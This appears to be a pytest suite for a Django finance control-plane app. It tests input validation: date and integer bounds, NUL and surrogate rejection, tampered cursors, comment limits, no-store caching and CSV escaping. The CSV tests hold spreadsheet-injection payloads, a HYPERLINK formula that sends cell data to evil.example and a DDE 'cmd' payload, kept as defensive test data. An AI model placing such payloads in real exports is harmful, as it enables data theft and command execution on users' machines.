"""The shared input rule (controlplane/validation.py) on every path that takes input:
date-times in the window with sane offsets, integers within their column, no NUL or lone
surrogates in JSON bodies and forms, tampered cursors, comment sizes, formula cells in CSV,
and no caching of finance pages. Each refusal is a 400 (or a form error) and stores
nothing. Runs on SQLite and PostgreSQL (the rows a bad date leaves behind on PostgreSQL
are in test_poison_rows.py).
"""

import base64
import csv
import datetime as dt
import io
import json

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from catalog.models import Team
from controlplane import validation
from controlplane.csv_export import safe_cell
from controlplane.validation import COMMENT_MAX_LENGTH, INT_MAX, parse_instant
from exceptions.models import BusinessException, Comment, DefaultQueue, Queue
from health.models import MaintenanceWindow, SyncRun
from kpis.models import BusinessEvent
from tests.exceptions.factories import BusinessExceptionFactory, QueueFactory, ReplayTargetFactory
from tests.factories import IntegrationFactory, TeamFactory

pytestmark = pytest.mark.django_db

NOW = timezone.now()
GOOD = (NOW - dt.timedelta(hours=1)).isoformat()

# Refused on every machine path, each for its own reason.
BAD_INSTANTS = {
    "year-0-in-utc": "0001-01-01T00:00:00+14:00",
    "year-1": "0001-01-01T00:00:00Z",
    "year-9999": "9999-12-31T23:59:59-14:00",
    "before-2000": "1999-12-31T23:59:59Z",
    "over-a-year-ahead": (NOW + dt.timedelta(days=400)).isoformat(),
    "offset-over-14h": "2026-03-01T10:00:00+14:30",
    "offset-under-minus-14h": "2026-03-01T10:00:00-14:01",
    "naive": "2026-03-01T10:00:00",
    "month-13": "2026-13-01T10:00:00Z",
    "not-a-date": "yesterday",
    "huge-string": "2026-03-01T10:00:00Z" + "0" * 10_000,
}


# --- the rule itself ------------------------------------------------------------------------


@pytest.mark.parametrize("raw", ["2026-03-01T09:30:00Z", "2026-03-01T23:30:00+14:00", "2026-03-01T00:00:00-12:00",
                                 "2000-01-01T00:00:00Z"])
def test_instants_inside_the_window_are_accepted(raw):
    value, problem = parse_instant(raw, now=dt.datetime(2026, 6, 1, tzinfo=dt.UTC))
    assert problem is None and value.tzinfo is not None


@pytest.mark.parametrize("case", list(BAD_INSTANTS), ids=list(BAD_INSTANTS))
def test_instants_outside_the_rule_are_refused_with_a_reason(case):
    value, problem = parse_instant(BAD_INSTANTS[case])
    assert value is None and problem


def test_non_strings_are_refused():
    for raw in (None, 1_700_000_000, ["2026-03-01T10:00:00Z"], {"at": "now"}):
        assert parse_instant(raw)[1] == validation.INSTANT_FORMAT


# --- every machine path --------------------------------------------------------------------


@pytest.fixture
def billing(cast):
    queue = QueueFactory(name="Billing")
    integration = IntegrationFactory(slug="psa-to-erp", name="PSA to ERP")
    DefaultQueue.objects.create(integration=integration, queue=queue)
    return integration


def _errors(response):
    assert response.status_code == 400, (response.status_code, response.content[:400])
    return response.json()["error"]


@pytest.mark.parametrize("case", list(BAD_INSTANTS), ids=list(BAD_INSTANTS))
def test_exception_ingest_refuses_bad_occurred_at(case, billing, api_as):
    response = api_as("service").post("/api/v1/exceptions/ingest/", {
        "integration": billing.slug, "error_code": "TAX_CODE_MISMATCH", "message": "Tax code V7 unknown",
        "occurred_at": BAD_INSTANTS[case],
    }, format="json")
    assert list(_errors(response)["fields"]["items"][0]["errors"]) == ["occurred_at"]
    assert not BusinessException.objects.exists()


@pytest.mark.parametrize("case", list(BAD_INSTANTS), ids=list(BAD_INSTANTS))
@pytest.mark.parametrize("field", ["started_at", "finished_at"])
def test_health_runs_refuse_bad_times(case, field, billing, api_as):
    body = {"run_id": "r-1", "status": "success", field: BAD_INSTANTS[case]}
    response = api_as("service").post(f"/api/v1/integrations/{billing.slug}/runs/", body, format="json")
    assert field in _errors(response)["fields"]
    assert not SyncRun.objects.exists()


@pytest.mark.parametrize("case", list(BAD_INSTANTS), ids=list(BAD_INSTANTS))
def test_business_events_refuse_bad_occurred_at(case, api_as):
    body = {"event_id": "e-1", "type": "time_approved", "correlation_key": "K1", "occurred_at": BAD_INSTANTS[case]}
    response = api_as("service").post("/api/v1/events/", body, format="json")
    assert "occurred_at" in str(_errors(response)["fields"])
    assert not BusinessEvent.objects.exists()


@pytest.mark.parametrize("case", ["year-0-in-utc", "before-2000", "naive", "offset-over-14h"])
def test_every_model_serializer_date_time_follows_the_rule(case, billing, api_as):
    """Maintenance windows are a plain ModelSerializer: the rule reaches it through the
    project-wide DateTimeField mapping, not a field declared by hand."""
    body = {"name": "Patch night", "integration": billing.slug, "recurrence": "once",
            "starts_at": BAD_INSTANTS[case], "ends_at": (NOW + dt.timedelta(hours=2)).isoformat()}
    response = api_as("architect").post("/api/v1/health/maintenance/", body, format="json")
    assert "starts_at" in _errors(response)["fields"]
    assert not MaintenanceWindow.objects.exists()


def test_a_good_event_still_goes_in(api_as):
    body = {"event_id": "e-1", "type": "time_approved", "correlation_key": "K1", "occurred_at": GOOD}
    assert api_as("service").post("/api/v1/events/", body, format="json").status_code == 200
    assert BusinessEvent.objects.count() == 1


@pytest.mark.parametrize("starts_at", ["0001-01-01T00:00", "1999-12-31T23:00", "9999-12-31T23:59"])
def test_the_maintenance_form_refuses_dates_outside_the_window(starts_at, billing, client_as):
    response = client_as("architect").post("/health/maintenance/add/", {
        "name": "Patch", "integration": billing.pk, "recurrence": "once", "starts_at": starts_at,
        "ends_at": "2026-03-01T10:00", "duration_minutes": 60,
    })
    assert response.status_code in (200, 400) and "Must lie between 2000-01-01" in response.content.decode()
    assert not MaintenanceWindow.objects.exists()


@pytest.mark.parametrize("value", ["1999-12-31", "0001-01-01", "9999-12-31"])
def test_kpi_date_parameters_use_the_same_window(value, api_as, client_as):
    response = api_as("executive").get("/api/v1/kpis/approved-time-to-invoice/series/", {"from": value})
    assert "Must lie between 2000-01-01" in _errors(response)["message"]
    page = client_as("executive").get("/kpis/", {"to": value})
    assert page.status_code == 200 and "outside the accepted dates" in page.content.decode()


# --- integers ------------------------------------------------------------------------------


@pytest.mark.parametrize("field, value", [("records_processed", INT_MAX + 1), ("records_failed", 2**70),
                                          ("lag_seconds", INT_MAX + 1), ("records_processed", -1)])
def test_run_figures_are_bounded_to_their_columns(field, value, billing, api_as):
    body = {"run_id": "r-1", "status": "success", field: value}
    response = api_as("service").post(f"/api/v1/integrations/{billing.slug}/runs/", body, format="json")
    assert field in _errors(response)["fields"]
    assert not SyncRun.objects.exists()


@pytest.mark.parametrize("hours", [0, 24 * 366 + 1, INT_MAX + 1, 2**63])
def test_queue_target_hours_are_bounded(hours, api_as, cast):
    team = TeamFactory()
    body = {"name": "Payroll", "team": team.slug, "target_hours_critical": hours}
    response = api_as("architect").post("/api/v1/exceptions/queues/", body, format="json")
    assert "target_hours_critical" in _errors(response)["fields"]
    assert not Queue.objects.filter(name="Payroll").exists()


def test_queue_target_hours_are_bounded_in_the_service_too(cast):
    from django.core.exceptions import ValidationError

    from exceptions import services

    with pytest.raises(ValidationError):
        services.save_queue(actor=cast["architect"], data={"name": "Payroll", "team": TeamFactory(),
                                                            "target_hours_low": 10**7})
    assert not Queue.objects.filter(name="Payroll").exists()


def test_bulk_ids_beyond_the_id_column_are_a_400(api_as, billing):
    exc = BusinessExceptionFactory(integration=billing)
    response = api_as("finance").post("/api/v1/exceptions/items/bulk/", {"ids": [exc.pk, 2**64], "action": "acknowledge"},
                                      format="json")
    assert "ids" in _errors(response)["fields"]
    assert BusinessException.objects.get(pk=exc.pk).status == "new"


def test_amount_filters_beyond_the_column_are_a_400(api_as, client_as, billing):
    BusinessExceptionFactory(integration=billing)
    for value in ("1e400", "-1", "99999999999999999999"):
        assert api_as("finance").get("/api/v1/exceptions/items/", {"amount_min": value}).status_code == 400, value
        assert client_as("finance").get("/exceptions/list/", {"amount_max": value}).status_code == 200


# --- NUL and lone surrogates -----------------------------------------------------------------

SURROGATE_BODIES = {
    "lone-high-surrogate-in-name": '{"name": "Team \\ud800", "slug": "t-sur"}',
    "lone-low-surrogate-in-name": '{"name": "Team \\udfff", "slug": "t-sur"}',
    "surrogate-in-key": '{"name": "Team", "slug": "t-sur", "metadata": {"\\udc00": 1}}',
    "surrogate-deep-in-a-list": '{"name": "Team", "slug": "t-sur", "metadata": {"a": [[["x\\ud83d"]]]}}',
}


@pytest.mark.parametrize("case", list(SURROGATE_BODIES), ids=list(SURROGATE_BODIES))
def test_lone_surrogates_in_json_bodies_are_a_400(case, superuser):
    client = APIClient()
    client.force_login(superuser)
    response = client.generic("POST", "/api/v1/catalog/teams/", SURROGATE_BODIES[case], content_type="application/json")
    assert "surrogate" in _errors(response)["message"]
    assert not Team.objects.filter(slug="t-sur").exists()


def test_a_real_astral_character_is_not_a_lone_surrogate(superuser):
    """An emoji written as its escaped surrogate pair is one valid character."""
    client = APIClient()
    client.force_login(superuser)
    response = client.generic("POST", "/api/v1/catalog/teams/", '{"name": "Team \\ud83d\\ude80", "slug": "t-rocket"}',
                              content_type="application/json")
    assert response.status_code == 201, response.content
    assert Team.objects.get(slug="t-rocket").name == "Team \U0001f680"


def test_lone_surrogates_in_ingested_payloads_are_a_400(billing, api_as):
    body = ('{"integration": "psa-to-erp", "error_code": "X", "message": "m", '
            '"payload": {"invoice": "INV-1\\ud800"}}')
    response = api_as("service").generic("POST", "/api/v1/exceptions/ingest/", body, content_type="application/json")
    _errors(response)
    assert not BusinessException.objects.exists()


@pytest.mark.parametrize("url, data", [
    ("/catalog/teams/new/", {"name": "Team\x00Null", "slug": "nul-team", "email": "a@example.com"}),
    ("/catalog/teams/new/", {"name": "Team", "slug": "nul-team", "email": "a@example.com", "extra\x00": "1"}),
    ("/exceptions/list/", None),
])
def test_nul_in_any_form_field_is_a_400(url, data, client_as, billing, superuser):
    from django.test import Client

    client = Client()
    client.force_login(superuser)
    if data is None:  # a form the view would read through a ModelChoiceField by slug
        exc = BusinessExceptionFactory(integration=billing)
        url, data = f"/exceptions/{exc.pk}/assign/", {"assignee": "fin\x00ance"}
    response = client.post(url, data)
    assert response.status_code == 400 and b"NUL" in response.content
    assert not Team.objects.filter(slug="nul-team").exists()


@pytest.mark.parametrize("escape", ["\\u0000", "\\ud800"])
def test_json_typed_into_a_form_follows_the_json_body_rule(escape, billing, client_as):
    ReplayTargetFactory(integration=billing)
    exc = BusinessExceptionFactory(integration=billing)
    before = exc.payload
    response = client_as("finance").post(f"/exceptions/{exc.pk}/replay/", {"payload": '{"invoice": "INV' + escape + '"}'})
    assert response.status_code == 400 and "Not accepted" in response.content.decode()
    exc.refresh_from_db()
    assert exc.payload == before and not exc.replay_attempts.exists()


# --- cursors -----------------------------------------------------------------------------------


def _cursor(query: str) -> str:
    return base64.b64encode(query.encode()).decode()


TAMPERED_CURSORS = {
    "garbage": "not-base64-!!",
    "not-a-date-position": _cursor("o=0&r=0&p=yesterday"),
    "year-0-position": _cursor("o=0&r=0&p=0001-01-01T00:00:00+14:00"),
    "nul-position": _cursor("o=0&r=0&p=2026\x00"),
}


@pytest.mark.parametrize("case", list(TAMPERED_CURSORS), ids=list(TAMPERED_CURSORS))
def test_a_tampered_cursor_is_a_400_on_the_api_and_on_the_html_list(case, billing, api_as, client_as):
    BusinessExceptionFactory(integration=billing)
    cursor = TAMPERED_CURSORS[case]
    api = api_as("finance").get("/api/v1/exceptions/items/", {"cursor": cursor})
    assert _errors(api)["code"] == "invalid_cursor"
    page = client_as("finance").get("/exceptions/list/", {"cursor": cursor})
    assert page.status_code == 400 and "start again from the first page" in page.content.decode()


def test_a_real_cursor_still_pages(billing, client_as):
    for _ in range(55):
        BusinessExceptionFactory(integration=billing)
    client = client_as("finance")
    first = client.get("/exceptions/list/")
    assert client.get(first.context["next_url"]).status_code == 200


# --- comments ----------------------------------------------------------------------------------


def test_comments_have_a_size_limit_on_the_api_the_page_and_the_service(billing, api_as, client_as, cast):
    from controlplane.errors import ValidationFailed
    from exceptions import services

    exc = BusinessExceptionFactory(integration=billing)
    too_long = "a" * (COMMENT_MAX_LENGTH + 1)
    response = api_as("finance").post(f"/api/v1/exceptions/items/{exc.pk}/comments/", {"body": too_long}, format="json")
    assert "body" in _errors(response)["fields"]
    page = client_as("finance").post(f"/exceptions/{exc.pk}/comment/", {"body": too_long}, follow=True)
    assert f"at most {COMMENT_MAX_LENGTH}" in page.content.decode()
    with pytest.raises(ValidationFailed):
        services.add_comment(exception=exc, actor=cast["finance"], body=too_long)
    assert not Comment.objects.exists()
    ok = api_as("finance").post(f"/api/v1/exceptions/items/{exc.pk}/comments/", {"body": "a" * COMMENT_MAX_LENGTH},
                                format="json")
    assert ok.status_code == 201 and Comment.objects.count() == 1


# --- CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\tlooks empty", "\rreturn"])
def test_formula_cells_are_escaped(text):
    assert safe_cell(text) == "'" + text


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    from decimal import Decimal

    assert safe_cell(Decimal("-120.50")) == Decimal("-120.50") and safe_cell(-3) == -3
    assert safe_cell(dt.date(2026, 3, 1)) == "2026-03-01" and safe_cell(None) == ""
    assert safe_cell("Tax code V7 unknown") == "Tax code V7 unknown"


def test_the_exception_export_escapes_a_message_that_is_a_formula(billing, api_as, client_as):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    api_as("service").post("/api/v1/exceptions/ingest/", {
        "integration": billing.slug, "error_code": "=1+1", "message": formula, "business_keys": {"client": "@Acme"},
    }, format="json")
    response = client_as("finance").get("/exceptions/export.csv")
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["Message"] == "'" + formula and cells["Error code"] == "'=1+1" and cells["Client"] == "'@Acme"
    assert cells["Amount at risk"] == "0.00"


# --- caching of finance data ----------------------------------------------------------------------


def test_finance_pages_and_exports_are_not_stored_by_caches(billing, client_as, superuser):
    from django.test import Client

    exc = BusinessExceptionFactory(integration=billing)
    finance = client_as("finance")
    for url in ["/exceptions/", "/exceptions/list/", f"/exceptions/{exc.pk}/", "/exceptions/export.csv", "/kpis/",
                "/kpis/revenue-at-risk/", "/kpis/revenue-at-risk/export.csv", "/kpis/rows/?kpi=revenue-at-risk",
                "/api/v1/exceptions/items/", "/api/v1/kpis/"]:
        response = finance.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response.get("Cache-Control", ""), url
    admin = Client()
    admin.force_login(superuser)
    assert "no-store" in admin.get("/admin/").get("Cache-Control", "")  # the control board
    # Pages without finance data keep normal caching rules.
    assert "no-store" not in finance.get("/catalog/").get("Cache-Control", "")


def test_json_problem_is_iterative_and_names_the_problem():
    deep = current = []
    for _ in range(10_000):
        current.append([])
        current = current[0]
    assert "deeper than 100" in validation.json_problem(deep, 100)
    assert "NUL" in validation.json_problem({"a": ["ok", {"b": "x\x00"}]}, 100)
    assert validation.json_problem(json.loads('{"a": "\\ud83d\\ude80"}'), 100) is None


@pytest.mark.parametrize("text", [
    '{"a": "plain"}', '{"a": "\x00"}', '{"a": "\\u0000"}', '{"a": "\\ud83d"}', '{"a": "\\uD800x"}',
    '{"a": "\\u00e9"}', '{"a": "caf\u00e9"}', '{"a": "\ud800"}', '{"a": "caf\u00e9 \x00"}', '{"a": "\\\\u0000"}',
    '{"a": "\\u0041"}',
])
def test_the_fast_suspect_scan_agrees_with_the_regular_expression(text):
    """The shortcut the parser takes for ASCII bodies finds what the full pattern finds."""
    from controlplane.validation import _SUSPECT_TEXT, _suspect_text

    assert _suspect_text(text) == (_SUSPECT_TEXT.search(text) is not None)
